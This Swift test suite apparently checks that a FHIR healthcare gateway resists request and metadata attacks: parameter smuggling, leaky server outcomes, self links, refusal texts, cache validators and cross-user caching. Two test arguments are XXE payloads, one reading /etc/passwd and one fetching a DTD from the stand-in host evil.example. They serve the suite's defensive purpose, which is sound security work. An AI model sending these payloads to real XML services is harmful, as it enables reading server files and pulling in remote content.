import AccessPolicy
import Audit
import ChaperoneTesting
import Enforcement
import FHIRCore
import RequirementTraits
import Synchronization
import Testing

/// What requests in odd forms reach, and what answers tell beside the data: links, tags, outcomes, texts.
@Suite(.underMutation) struct MetadataAttackTests {
    private static let form = [(name: "Content-Type", value: "application/x-www-form-urlencoded")]

    private func harness(_ change: (ScriptedUpstream) -> ScriptedUpstream = { $0 }) throws -> GatewayHarness {
        try GatewayHarness(upstream: change(try AttackCatalogue.shared.get().store(.obedient).upstream))
    }

    private func hostile(_ hostility: UpstreamHostility) throws -> GatewayHarness {
        let foreign = try AttackCatalogue.shared.get().records(of: "pB")
        return try harness { $0.hostile(hostility, foreign: foreign) }
    }

    @Test(
        .verifies("attack@ATK-180"),
        arguments: [("patient=pB", "patient=pA"), ("patient=pA", "patient=pB"), ("", "patient=pB")])
    func `parameters of the address and of the form are judged together`(query: String, body: String) async throws {
        let harness = try harness()
        let token = try harness.token(scope: "patient/*.rs", patient: "pA")

        let answer = await harness.send(
            "POST", "/Observation/_search" + (query.isEmpty ? "" : "?\(query)"), token: token, headers: Self.form,
            body: Array(body.utf8))

        #expect(answer.status == 403)
        #expect(answer.upstream.isEmpty)
    }

    @Test(
        .verifies("attack@ATK-208"),
        arguments: [
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><Observation xmlns=\"http://hl7.org/fhir\">&e;</Observation>",
            "<?xml version=\"1.0\"?><!DOCTYPE x SYSTEM \"http://evil.example/x.dtd\"><Observation xmlns=\"http://hl7.org/fhir\"/>",
        ])
    func `a document type in XML is not read`(body: String) async throws {
        let harness = try harness()
        let token = try harness.token(scope: "patient/*.cruds", patient: "pA")

        let answer = await harness.send(
            "POST", "/Observation", token: token, headers: [(name: "Content-Type", value: "application/fhir+xml")],
            body: Array(body.utf8))

        #expect([400, 415].contains(answer.status))
        #expect(answer.upstream.isEmpty)
        #expect(!answer.text.contains("root:"))
    }

    @Test(.verifies("attack@ATK-211"), arguments: [UpstreamHostility.wrongTypes, .foreignEntries])
    func `an entry that nobody asked for is dropped and noted`(hostility: UpstreamHostility) async throws {
        let harness = try hostile(hostility)
        let token = try harness.token(scope: "patient/*.rs", patient: "pA")

        let answer = await harness.send("GET", "/Observation", token: token)

        try expectNoLeak(answer)
        #expect(answer.status == 200)
        #expect(answer.keys.contains("Observation/obsA"))
        #expect(answer.keys.allSatisfy { $0.hasPrefix("Observation/obsA") || $0.hasPrefix("OperationOutcome") })
        let record = try #require(answer.records.last)
        let event = try record.statement().event
        guard case .access(let access) = event else {
            Issue.record("expected the record of an access")
            return
        }
        #expect(!access.securityEvents.isEmpty)
        #expect(!access.withheld.isEmpty)
    }

    @Test(.verifies("attack@ATK-257"))
    func `what the server says about a search is not passed on`() async throws {
        let harness = try hostile(.talkativeOutcome)
        let token = try harness.token(scope: "patient/*.rs", patient: "pA")

        let answer = await harness.send("GET", "/Observation", token: token)

        #expect(answer.status == 200)
        #expect(!answer.text.contains("secret"))
        #expect(!answer.keys.contains { $0.hasPrefix("OperationOutcome") })
    }

    private func selfLink(_ answer: GatewayHarness.Answer) throws -> String {
        try #require(answer.json?["link"]?.array?.first { $0["relation"]?.string == "self" }?["url"]?.string)
    }

    @Test(.verifies("attack@ATK-258"))
    func `the self link is ours and names nobody whom the client does not know`() async throws {
        let store = try AttackCatalogue.shared.get().store(.obedient)
        let doctor = try #require(InstanceKey("Practitioner/dr1"))
        let panel = Set(["pA", "pC"].compactMap { ResourceID($0) })
        let harness = try GatewayHarness(
            upstream: store.upstream, panels: .table(users: [doctor: .patients(panel)]))
        let own = await harness.send(
            "GET", "/Observation", token: try harness.token(scope: "patient/*.rs", patient: "pA"))
        let panelled = await harness.send(
            "GET", "/Observation", token: try harness.token(scope: "user/*.rs", fhirUser: "Practitioner/dr1"))

        #expect(try selfLink(own) == GatewayHarness.publicBase + "/Observation?patient=Patient/pA")
        #expect(try selfLink(panelled) == GatewayHarness.publicBase + "/Observation")
    }

    @Test(.verifies("attack@ATK-259"))
    func `a refusal says the same to everybody and names nobody's scopes or patient`() async throws {
        let harness = try harness()
        var texts: Set<String> = []
        for (scope, patient) in [("patient/Condition.rs", "pA"), ("patient/Patient.rs openid", "pC")] {
            let answer = await harness.send(
                "GET", "/Observation", token: try harness.token(scope: scope, patient: patient))
            #expect(answer.status == 403)
            #expect(!answer.text.contains(patient) && !answer.text.contains("Condition"))
            texts.insert(answer.text)
        }

        #expect(texts.count == 1)
    }

    @Test(.verifies("attack@ATK-261"))
    func `a bundle that was cut carries no validator`() async throws {
        let harness = try harness { upstream in
            upstream.mapping { _, reply in
                guard case .answer(var head, let body) = reply else { return reply }
                head.etag = "W/\"bundle-7\""
                head.lastModified = "Thu, 01 Jan 2026 00:00:00 GMT"
                return .answer(head, body)
            }
        }
        let token = try harness.token(scope: "patient/*.rs", patient: "pA")
        for target in ["/Observation", "/Observation/obsA/_history"] {
            let answer = await harness.send("GET", target, token: token)

            #expect(answer.status == 200)
            #expect(answer.field("etag") == nil && answer.field("last-modified") == nil, "\(target)")
        }
    }

    @Test(.verifies("attack@ATK-262"))
    func `one address asked by two is two questions, and no answer is kept`() async throws {
        let harness = try harness()
        let first = await harness.send(
            "GET", "/Observation", token: try harness.token(scope: "patient/*.rs", patient: "pA"))
        let second = await harness.send(
            "GET", "/Observation", token: try harness.token(scope: "patient/*.rs", patient: "pC", grant: "other"))

        #expect(first.upstream.count == 1 && second.upstream.count == 1)
        #expect(first.upstream.first?.query != second.upstream.first?.query)
        #expect([first, second].allSatisfy { $0.field("cache-control") == "no-store" })
        #expect(first.text != second.text)
    }
}
